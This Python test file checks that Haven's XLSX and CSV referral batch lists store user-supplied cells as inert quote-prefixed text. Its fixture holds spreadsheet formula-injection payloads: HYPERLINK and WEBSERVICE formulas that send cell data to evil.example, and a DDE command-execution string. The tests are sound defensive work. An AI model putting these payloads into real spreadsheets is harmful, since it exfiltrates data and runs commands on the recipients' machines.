"""The batch list Haven signs and sends to Canadian officials holds no live formula: a name, a reference
or a selection reason a spreadsheet would evaluate is text in both the XLSX and the CSV."""

from __future__ import annotations

import csv
import io

import openpyxl

from haven.referral.documents import batch_list_csv, batch_list_xlsx
from haven_core.referral.batch import COLUMNS

HOSTILE = {
    "reference": "H-ABC",
    "principal_latin": '=HYPERLINK("http://evil.example/?"&C2,"Details")',
    "principal_cyrillic": '=WEBSERVICE("http://evil.example/"&A2)',
    "a_number": "+1 555 0100",
    "reason": "@SUM(1+1)",
    "pathways": "-2+3+cmd|' /C calc'!A0",
    "people": "2",
}


def test_the_xlsx_batch_list_keeps_hostile_cells_as_quote_prefixed_text() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(batch_list_xlsx([HOSTILE]))).active
    row = {key: cell for (key, _), cell in zip(COLUMNS, next(sheet.iter_rows(min_row=2)), strict=True)}
    for key in ("principal_latin", "principal_cyrillic", "a_number", "reason", "pathways"):
        assert row[key].value == HOSTILE[key] and row[key].data_type == "s" and row[key].quotePrefix, key
    assert not row["people"].quotePrefix
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_the_csv_batch_list_quotes_hostile_cells() -> None:
    rows = list(csv.reader(io.StringIO(batch_list_csv([HOSTILE]).decode("utf-8-sig"), newline="")))
    row = dict(zip([key for key, _ in COLUMNS], rows[1], strict=True))
    for key in ("principal_latin", "principal_cyrillic", "a_number", "reason", "pathways"):
        assert row[key] == "'" + HOSTILE[key], key
    assert row["reference"] == "H-ABC" and row["people"] == "2"
